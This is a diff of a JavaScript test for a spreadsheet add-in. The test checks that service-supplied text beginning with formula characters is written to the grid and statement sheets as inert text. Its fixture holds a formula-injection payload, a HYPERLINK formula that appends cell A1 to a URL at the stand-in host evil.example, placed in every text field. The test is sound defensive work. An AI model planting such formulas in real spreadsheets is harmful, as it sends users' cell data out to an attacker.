@@ -146,24 +146,24 @@ describe("what the taskpane's Office side writes", () => {
     "writes service text starting with %j into the grid and statement sheets as text, numbers as numbers",
     async (lead) => {
       const attack = `${lead}HYPERLINK("http://evil.example/?"&A1,"x")`;
-      const row = {
-        date: "2024-03-31",
-        heading: attack,
-        subheading: attack,
-        granularity: "quarter",
-        projectName: attack,
-        section: attack,
-        metricId: attack,
-        value: -5,
-        popChange: -0.25,
-        definition: attack,
-      };
+      // The statement's spills (STATEMENT with headers=2, and with values=pop) carrying the attack in every
+      // text the service names: the project, the period heading and subheading, the section and the line.
+      const values = [
+        [attack, null, attack],
+        ["Section", "Metric", attack],
+        [attack, attack, -5],
+      ];
+      const changes = [
+        ["Section", "Metric", attack],
+        [attack, attack, -0.25],
+      ];
       const input = {
         projectId: "aave",
         projectName: attack,
         granularity: "quarter",
         interval: "1y",
-        rows: [row],
+        values,
+        changes,
         asOf: "2026-11-20 12:00 UTC",
         simulated: false,
       };
